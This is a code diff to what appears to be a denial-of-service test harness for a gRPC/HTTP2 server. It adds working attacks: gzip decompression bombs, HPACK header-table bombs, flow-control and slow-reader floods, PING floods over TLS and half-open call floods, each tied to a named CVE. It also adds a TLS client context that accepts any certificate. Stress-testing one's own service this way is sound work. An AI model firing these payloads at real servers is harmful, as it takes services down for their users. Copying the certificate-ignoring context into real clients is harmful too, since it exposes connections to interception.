@@ -26,6 +26,7 @@ from support.http2 import (
     HEALTH_PATH,
     PADDED,
     PREFACE,
+    READ_PATH,
     Kind,
     Setting,
     block,
@@ -61,8 +62,34 @@ HEALTH: Final = block(request_fields(HEALTH_PATH))
 GZIP: Final[Fields] = [("grpc-encoding", "gzip")]
 # Asks for the file that declares the health service, in reflection's own field.
 QUESTION: Final = message(b"\x22\x15grpc.health.v1.Health")
-# A message of 256 KiB, less what stands before it, that compresses to some 300 bytes.
-BOMB: Final = message(gzip.compress(bytes(262_000)), flag=1)
+BULK: Final = "/allocation.v1.ShipmentAllocationService/AllocateShipments"
+
+
+def of_length(tag: bytes, value: bytes) -> bytes:
+    """Returns a field of a message, of bytes or text."""
+    return tag + _varint(len(value)) + value
+
+
+def _varint(number: int) -> bytes:
+    found = bytearray()
+    while number >= 0x80:
+        found.append(number & 0x7F | 0x80)
+        number >>= 7
+    return bytes([*found, number])
+
+
+def packed(text: bytes) -> bytes:
+    """Returns a message that is compressed, of 256 KiB to some 300 bytes where nearly all of it is the same."""
+    return message(gzip.compress(text), flag=1)
+
+
+# Messages of 256 KiB, less what stands before them. Each is one that its method takes: what is none is refused as
+# soon as it is unpacked. A field that no method knows; for reflection a file whose name its answer says twice; a
+# request for very many shipments, none of which has a reference; a service of which the health is watched.
+BOMB: Final = packed(of_length(b"\xfa\x3f", bytes(261_000)))
+ECHOED: Final = packed(of_length(b"\x1a", b"a" * 250_000))
+REFERENCES: Final = packed(b"\x0a\x00" * 131_000)
+SERVICE: Final = packed(of_length(b"\x0a", b"a" * 255_000))
 
 
 def streams(first: int = 1) -> Iterator[int]:
@@ -182,10 +209,80 @@ def trailers() -> Iterator[bytes]:
     )
 
 
+def packed_calls(path: str, body: bytes) -> Iterator[bytes]:
+    """Yields calls of one message that is compressed."""
+    fields = block([*request_fields(path), *GZIP])
+    return on_each_stream(lambda stream: headers(stream, fields) + data(stream, body, end=True))
+
+
+def watched_services() -> Iterator[bytes]:
+    """Yields watches that stand, each for a service with a name as long as can be."""
+    fields = block([*request_fields(WATCH), *GZIP])
+    return on_each_stream(lambda stream: headers(stream, fields) + data(stream, SERVICE, end=True), 2_000)
+
+
+def joined_values() -> Iterator[bytes]:
+    """Yields calls of a few bytes, whose metadata is a value of the table that seems to be thousands of others."""
+    yield headers(1, HEADERS + b"\x40" + literal(b"x-bin", b"," * 4_050)[1:]) + data(1, message(b""), end=True)
+    for stream in streams(3):
+        yield headers(stream, HEADERS + b"\xbe" * 3) + data(stream, message(b""), end=True)
+
+
+def small_fields() -> Iterator[bytes]:
+    """Yields calls without an end, each with as many small fields as may be."""
+    fields = HEALTH + b"\x00\x02ab\x02cd" * 430
+    return on_each_stream(lambda stream: headers(stream, fields), 10_000)
+
+
+def wide_windows() -> bytes:
+    """Returns what opens the windows of a connection, and of each call, as wide as can be."""
+    return settings({Setting.INITIAL_WINDOW_SIZE: LARGEST_STREAM}) + window_update(0, LARGEST_STREAM - WINDOW)
+
+
+def echoed_questions() -> Iterator[bytes]:
+    """Yields questions with large answers, which wide windows let out at once."""
+    fields = block([*request_fields(REFLECTION), *GZIP])
+    yield wide_windows()
+    yield from on_each_stream(lambda stream: headers(stream, fields) + data(stream, ECHOED))
+
+
+def windows_opened_late() -> Iterator[bytes]:
+    """Yields questions whose answers are let out together, when there are many."""
+    fields = block([*request_fields(REFLECTION), *GZIP])
+    yield settings({Setting.INITIAL_WINDOW_SIZE: 0}) + window_update(0, LARGEST_STREAM - WINDOW)
+    yield from on_each_stream(lambda stream: headers(stream, fields) + data(stream, ECHOED), 16)
+    yield from itertools.repeat(frame(Kind.PING, 0, 0, bytes(8)), 2_000)  # meanwhile, answers pile up
+    yield settings({Setting.INITIAL_WINDOW_SIZE: LARGEST_STREAM})
+
+
+def size_updates() -> Iterator[bytes]:
+    """Yields headers that resize their table tens of thousands of times, where an empty frame begins with that."""
+    fill = b"\x20" * 16_384
+    for stream in streams():
+        yield frame(Kind.HEADERS, 0, stream, fill) + 2 * frame(Kind.CONTINUATION, 0, stream, fill)
+        yield frame(Kind.CONTINUATION, 0, stream, fill[: -len(HEALTH)] + HEALTH)
+        yield frame(Kind.CONTINUATION, END_HEADERS, stream, b"") + data(stream, message(b""), end=True)
+
+
+def continued_huffman() -> Iterator[bytes]:
+    """Yields headers of one long text, whose decoding an empty frame begins."""
+    text = HEALTH + b"\x00\x01x" + integer(40_000, 7, 0x80) + b"\x1c" * 40_000
+    parts = [text[at : at + 16_384] for at in range(0, len(text), 16_384)]
+    for stream in streams():
+        yield frame(Kind.HEADERS, 0, stream, parts[0])
+        yield b"".join(frame(Kind.CONTINUATION, 0, stream, part) for part in parts[1:])
+        yield frame(Kind.CONTINUATION, END_HEADERS, stream, b"") + data(stream, message(b""), end=True)
+
+
+def deadlines() -> Iterator[bytes]:
+    """Yields calls without an end whose time is up at the same moment."""
+    fields = HEALTH + literal(b"grpc-timeout", b"1S")
+    return on_each_stream(lambda stream: headers(stream, fields))
+
+
 def zip_bombs() -> Iterator[bytes]:
     """Yields requests that are small only as long as they are packed."""
-    fields = block([*request_fields(), *GZIP])
-    return on_each_stream(lambda stream: headers(stream, fields) + data(stream, BOMB, end=True))
+    return packed_calls(READ_PATH, BOMB)
 
 
 @functools.cache
@@ -201,6 +298,16 @@ def client_hello() -> bytes:
     raise AssertionError("a handshake cannot end before it has begun")
 
 
+@functools.cache
+def trusting() -> ssl.SSLContext:
+    """Returns what a TLS client needs that takes any certificate."""
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    return context
+
+
 @dataclass(frozen=True)
 class Attack:
     """An attack.
@@ -212,6 +319,7 @@ class Attack:
         has_preface: Whether it begins as HTTP/2 does.
         lasts: Whether a connection stands until the server closes it; else it is closed when all is sent.
         needs_tls: Whether it is about the port with TLS.
+        is_encrypted: Whether it is sent as a client of that port would, after the handshake.
     """
 
     make: Callable[[], Iterator[bytes]]
@@ -220,15 +328,23 @@ class Attack:
     has_preface: bool = True
     lasts: bool = True
     needs_tls: bool = False
+    is_encrypted: bool = False
+
+    @property
+    def is_over_tls(self) -> bool:
+        """Whether it is about the port with TLS, encrypted or not."""
+        return self.needs_tls or self.is_encrypted
 
 
 ATTACKS: Final[Mapping[str, Attack]] = {
     "compressed messages that nobody reads": Attack(lambda: unread(WATCH, BOMB, 16, GZIP), "decompression bombs"),
     "compressed questions whose answers are not taken": Attack(
-        lambda: itertools.chain([settings({Setting.INITIAL_WINDOW_SIZE: 0})], unread(REFLECTION, BOMB, 16, GZIP)),
+        lambda: itertools.chain([settings({Setting.INITIAL_WINDOW_SIZE: 0})], unread(REFLECTION, ECHOED, 16, GZIP)),
         "decompression bombs",
     ),
     "zip bombs": Attack(zip_bombs, "decompression bombs"),
+    "bombs of references": Attack(lambda: packed_calls(BULK, REFERENCES), "decompression bombs"),
+    "watches of long names": Attack(watched_services, "decompression bombs"),
     "empty messages that nobody reads": Attack(lambda: unread(WATCH, message(b""), 100), "unread messages"),
     "empty questions whose answers are not taken": Attack(
         lambda: itertools.chain([settings({Setting.INITIAL_WINDOW_SIZE: 0})], unread(REFLECTION, message(b""), 100)),
@@ -281,6 +397,10 @@ ATTACKS: Final[Mapping[str, Attack]] = {
     ),
     "header table bomb": Attack(table_bomb, "CVE-2016-6581"),
     "header table thrash": Attack(table_thrash, "CVE-2016-6581 and kin"),
+    "metadata of many commas": Attack(joined_values, "CVE-2016-6581 and kin"),
+    "calls with many small fields": Attack(small_fields, "CVE-2016-6581 and kin"),
+    "size updates of the header table": Attack(size_updates, "CVE-2016-6581 and kin"),
+    "long texts in many frames": Attack(continued_huffman, "CVE-2016-6581 and kin"),
     "large trailers": Attack(trailers, "trailers"),
     "calls of no method": Attack(
         lambda: on_each_stream(lambda stream: headers(stream, block(request_fields(UNKNOWN)), end=True)),
@@ -290,6 +410,14 @@ ATTACKS: Final[Mapping[str, Attack]] = {
     "watches without an end": Attack(lambda: unread(WATCH, message(b""), 2_000), "half-open calls"),
     "requests without their last byte": Attack(half_requests, "slow writers"),
     "answers that are not taken": Attack(answers_not_taken, "CVE-2019-9517: slow readers"),
+    "large answers to an open window that are not read": Attack(
+        echoed_questions, "CVE-2019-9517: slow readers", reads=False
+    ),
+    "answers let out together that are not read": Attack(
+        windows_opened_late, "CVE-2019-9517: slow readers", reads=False
+    ),
+    "deadlines that pass together": Attack(deadlines, "half-open calls"),
+    "watches that end together": Attack(lambda: unread(WATCH, message(b""), 100), "half-open calls", lasts=False),
     "answers let out a byte at a time": Attack(window_games, "CVE-2019-9511"),
     "answers that are not read": Attack(
         lambda: on_each_stream(
@@ -297,6 +425,10 @@ ATTACKS: Final[Mapping[str, Attack]] = {
         ),
         "CVE-2019-9517: slow readers",
         reads=False,
+    ),
+    "PING over TLS": Attack(lambda: forever(frame(Kind.PING, 0, 0, bytes(8))), "CVE-2019-9512", is_encrypted=True),
+    "large answers that are not read over TLS": Attack(
+        echoed_questions, "CVE-2019-9517: slow readers", reads=False, is_encrypted=True
     ),
     "connections that say nothing": Attack(lambda: iter([b""]), "half-open connections", has_preface=False),
     "connections opened and closed": Attack(lambda: iter([b""]), "connection churn", lasts=False),
@@ -324,6 +456,7 @@ class _Attacker:
         self.socket.setblocking(False)
         # A server that is slow to take connections holds up none of the others. What comes of it shows when it is used.
         self.socket.connect_ex(self._address)
+        self._is_shaking_hands = self._attack.is_encrypted
         self.opened += 1
         self.is_done = False
         greeting = PREFACE + settings() if self._attack.has_preface else b""
@@ -333,6 +466,8 @@ class _Attacker:
     def step(self) -> bool:
         """Sends what goes at once, and reads what there is. Returns whether the connection had to be opened again."""
         try:
+            if self._is_shaking_hands:
+                self._shake_hands()
             if self._attack.reads:
                 self._read()
             if not self._buffer and not self.is_done:
@@ -343,11 +478,18 @@ class _Attacker:
                 self._buffer = self._buffer[count:]
             elif self.is_done and not self._attack.lasts:
                 return self._again()
-        except BlockingIOError:
+        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
             return False
         except OSError:
             return self._again()
         return False
+
+    def _shake_hands(self) -> None:
+        if not isinstance(self.socket, ssl.SSLSocket):
+            self.socket.send(b"")  # fails as long as the connection is not made
+            self.socket = trusting().wrap_socket(self.socket, do_handshake_on_connect=False)
+        self.socket.do_handshake()
+        self._is_shaking_hands = False
 
     def _again(self) -> bool:
         self.socket.close()
@@ -368,7 +510,7 @@ class _Attacker:
         try:
             while received := self.socket.recv(CHUNK):
                 del received
-        except BlockingIOError:
+        except (BlockingIOError, ssl.SSLWantReadError):
             return
         raise ConnectionResetError
 
